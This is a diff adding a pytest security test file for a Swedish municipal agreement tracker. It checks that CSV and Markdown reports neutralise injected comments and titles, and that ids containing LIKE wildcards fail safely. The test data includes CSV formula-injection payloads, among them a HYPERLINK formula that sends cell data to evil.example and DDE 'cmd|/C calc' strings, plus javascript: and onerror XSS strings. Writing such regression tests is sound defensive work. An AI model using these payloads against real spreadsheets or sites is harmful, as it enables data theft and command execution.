@@ -1,0 +1,235 @@
+"""Issue 14, reports and the CLI: what a hostile comment, title, id, value or setting can no longer do.
+
+Each test reproduces a finding of the outside attack the way it was made: a comment
+written through a reminder link and read back in the report's CSV and Markdown, an id
+typed at the CLI and at ``/atagande/<id>``, a ``--db`` that is not a database, a
+database that cannot be written, an SMTP server that refuses the login, ``--hours inf``,
+a sender name that breaks every mail, and ``report --out`` that fails at the last step.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+from sqlalchemy import Engine, select
+
+from engine import db
+from engine.agreement import Agreement
+from engine.clock import FixedClock
+from engine.models import AreaRow, Commitment
+from engine.plan import load_plan
+from notifications.report import csv_cell
+from tests.security.conftest import Cli, Live
+
+MBU = "boras.mbu.kommun"
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"klicka")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+)
+# Commitments the first reminders went out for (boras_due), one hostile comment each.
+TARGETS = (
+    "boras.mbu.kommun",
+    "boras.mbu.polis",
+    "boras.sspf.kommun",
+    "boras.rent-och-snyggt.kommun",
+)
+
+
+def url_of(engine: Engine) -> str:
+    return engine.url.render_as_string(hide_password=False)
+
+
+def post_follow_up(live: Live, kit: Any, commitment: str, comment: str) -> None:
+    """The attacker's way in: the reminder's link, no sign-in, the form's own fields."""
+    with live.client() as c:
+        page = c.get(kit.link_path(commitment))
+        assert page.status_code == 200, page.text
+        data = {"csrf": kit.csrf_of(page.text), "kommentar": comment, "namn": "Någon"}
+        data.update({name: "2" for name in re.findall(r'<input type="number"[^>]* name="(m_[^"]+)"', page.text)})
+        data.update({name: "Se kommentaren" for name in re.findall(r'<textarea[^>]* name="(m_[^"]+)"', page.text)})
+        answer = c.post(kit.link_path(commitment), data=data, follow_redirects=True)
+        assert answer.status_code == 200 and "registrerad" in answer.text, answer.text
+
+
+# -- 1. spreadsheet formulas ---------------------------------------------------------------
+
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_a_formula_in_a_comment_is_text_in_the_csv_report_from_the_web_and_the_cli(
+    live: Live, cli: Cli, kit: Any, tmp_path: Path
+) -> None:
+    for commitment, formula in zip(TARGETS, FORMULAS, strict=True):
+        post_follow_up(live, kit, commitment, formula)
+    owner = live.signed_in(kit.OWNER)
+    answer = owner.get("/rapport/2026.csv")
+    owner.close()
+    assert answer.status_code == 200
+    out = tmp_path / "rapport.csv"
+    code, _, err = cli("report", "--db", url_of(live.engine), "--period", "2026", "--format", "csv", "--out", str(out))
+    assert code == 0, err
+    for text in (answer.text, out.read_text(encoding="utf-8")):
+        rows = _cells(text)
+        comments = [row[rows[0].index("comment")] for row in rows[1:]]
+        for formula in FORMULAS:
+            assert "'" + formula in comments, (formula, comments)
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(DANGEROUS), (cell, row)
+
+
+def test_a_number_stays_a_number_and_text_that_looks_like_one_is_quoted() -> None:
+    # OWASP: the rule is for text. A value that is a number is written as a number,
+    # negative too (a spreadsheet reads -3 as minus three, not as a formula); text that
+    # begins with a minus is quoted, since "-2+3+cmd|…" is text that looks like arithmetic.
+    assert csv_cell(-3) == "-3"
+    assert csv_cell(2.5) == "2.5"
+    assert csv_cell(2026) == "2026"
+    assert csv_cell("-3") == "'-3"
+    assert csv_cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
+    assert csv_cell("Antal: 2") == "Antal: 2"
+    assert csv_cell("") == ""
+    for lead in DANGEROUS:
+        assert csv_cell(lead + "x") == "'" + lead + "x"
+
+
+# -- 2. the Markdown report ----------------------------------------------------------------
+
+
+# Titles are one line (a line break in a title is the agreement file's to refuse); comments are not.
+HOSTILE_TITLE = "# Rubrik ![spår](http://evil.example/p.png) [klick](javascript:alert(1)) <b>fet</b> *k* | x &amp;"
+HOSTILE_EFFORT = "- [länk](http://evil.example) 1. ## Injicerad"
+HOSTILE_UNIT = "![x](http://evil.example/u.png) <img src=x onerror=alert(1)>"
+HOSTILE_COMMENT = (
+    "Bra år.\n# Falsk rubrik\n- falsk punkt\n> citat\n![x](http://evil.example/c.png) [klick](javascript:alert(1))"
+)
+
+
+@pytest.fixture
+def hostile(engine: Engine, boras: Agreement) -> Engine:
+    """Borås with its first area, first effort and every unit named to inject Markdown."""
+    data = boras.model_dump(mode="python", exclude_none=True)
+    data["agreement"]["title"] = "1. " + HOSTILE_TITLE
+    data["areas"][0]["title"] = HOSTILE_TITLE
+    data["areas"][0]["efforts"][0]["title"] = HOSTILE_EFFORT
+    for unit in data["units"]:
+        unit["name"] = HOSTILE_UNIT
+    for party in data["parties"]:
+        party["name"] = "[" + party["name"] + "](javascript:alert(1))"
+    with db.transaction(engine) as s:
+        load_plan(s, Agreement.model_validate(data), now=at(2016, 1, 4))
+    return engine
+
+
+def at(y: int, m: int, d: int) -> Any:
+    from tests.web.conftest import at as local
+
+    return local(y, m, d, 9)
+
+
+def flat(md: str) -> list[Any]:
+    """Every token of ``md`` as GitHub-like Markdown (CommonMark and tables) reads it, in order."""
+    out: list[Any] = []
+
+    def walk(tokens: list[Any]) -> None:
+        for t in tokens:
+            out.append(t)
+            walk(t.children or [])
+
+    walk(MarkdownIt("commonmark").enable("table").parse(md))
+    return out
+
+
+def shown(inline: Any) -> str:
+    """What a reader sees of an inline token: its text, escapes resolved."""
+    return "".join(c.content for c in inline.children or [] if c.type in ("text", "code_inline"))
+
+
+def test_hostile_titles_names_and_comments_inject_no_link_image_html_heading_or_list_into_the_markdown(
+    hostile: Engine, cli: Cli, tmp_path: Path
+) -> None:
+    url = url_of(hostile)
+    with db.transaction(hostile) as s:
+        first = s.scalars(select(Commitment).where(Commitment.effort_id == "bra-samordning")).all()
+    cli.clock = FixedClock(at(2016, 1, 5))
+    for c in first:
+        assert cli("transition", "--db", url, c.id, "start", "--by", "x", "--why", "y")[0] == 0
+    cli.clock = FixedClock(at(2017, 3, 1))
+    c = next(c for c in first if c.party == "kommun")
+    argv = ["followup", "--db", url, c.id, "--period", "2016", "--comment", HOSTILE_COMMENT, "--by", "[by](http://e)"]
+    argv += ["--value", "antal-moten=0", "--value", "representation=![r](http://evil.example/r.png)"]
+    code, _, err = cli(*argv)
+    assert code == 0, err
+    out = tmp_path / "rapport.md"
+    code, _, err = cli("report", "--db", url, "--period", "2016", "--format", "md", "--out", str(out))
+    assert code == 0, err
+    md = out.read_text(encoding="utf-8")
+    tokens = flat(md)
+
+    kinds = {t.type for t in tokens}
+    assert not kinds & {"link_open", "image", "html_block", "blockquote_open", "ordered_list_open", "fence"}, kinds
+    assert {t.content for t in tokens if t.type == "html_inline"} <= {"<br>"}  # the table's own line breaks
+    headings = [shown(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "heading_open"]
+    with db.transaction(hostile) as s:
+        areas = len(s.scalars(select(AreaRow.id)).all())
+    # The report's own headings and no other: the title, the summary, one per area, the missing list.
+    assert len(headings) == 3 + areas, headings
+    assert headings[0] == "1. " + HOSTILE_TITLE and headings[2] == "1. " + HOSTILE_TITLE, headings
+    assert not any("Falsk" in h or "Injicerad" in h for h in headings), headings
+    # Lists: the summary's (any deviations nested under it) and the missing one, nothing injected.
+    nested = 0 if "Avvikelser (under målet): 0" in md else 1
+    assert sum(t.type == "bullet_list_open" for t in tokens) == 2 + nested, md
+    text = " ".join(t.content for t in tokens if t.type == "text")
+    for typed in (HOSTILE_TITLE, HOSTILE_EFFORT, HOSTILE_UNIT, "# Falsk rubrik", "[by](http://e)"):
+        assert typed in text, typed  # every word is kept, as text
+
+
+# -- 3. LIKE wildcards and over-long ids -----------------------------------------------------
+
+
+@pytest.mark.parametrize("key", ["vbe.k%", "mbu.k_mmun", "%", "_", "%kommun", "m\\bu.kommun"])
+def test_like_wildcards_in_an_id_match_nothing(live: Live, cli: Cli, kit: Any, key: str) -> None:
+    url = url_of(live.engine)
+    before = states(live.engine)
+    code, _, err = cli("transition", "--db", url, key, "end", "--by", "x", "--why", "y")
+    assert (code, err.count("\n")) == (2, 1), err
+    assert "okänt åtagande" in err
+    assert states(live.engine) == before
+    owner = live.signed_in(kit.OWNER)
+    answer = owner.get(f"/atagande/{key.replace('%', '%25')}")
+    owner.close()
+    assert answer.status_code == 404 and "Sidan finns inte" in answer.text
+
+
+def test_an_id_of_60000_characters_is_unknown_not_a_traceback_or_500(live: Live, cli: Cli, kit: Any) -> None:
+    key = "%a" * 30_000
+    code, _, err = cli("history", "--db", url_of(live.engine), key)
+    assert (code, err.count("\n")) == (2, 1), err
+    assert "okänt åtagande" in err and len(err) < 400
+    owner = live.signed_in(kit.OWNER)
+    answer = owner.get("/atagande/" + "a" * 60_000)  # past SQLite's 50,000-byte LIKE pattern
+    owner.close()
+    assert answer.status_code == 404 and "Sidan finns inte" in answer.text
+
+
+def test_a_short_id_still_finds_its_commitment(live: Live, cli: Cli) -> None:
+    code, out, err = cli("history", "--db", url_of(live.engine), "mbu.kommun")
+    assert code == 0 and out.startswith("boras.mbu.kommun:"), err
+
+
+def states(engine: Engine) -> dict[str, str]:
+    with db.transaction(engine) as s:
+        return {c.id: c.state for c in s.scalars(select(Commitment))}
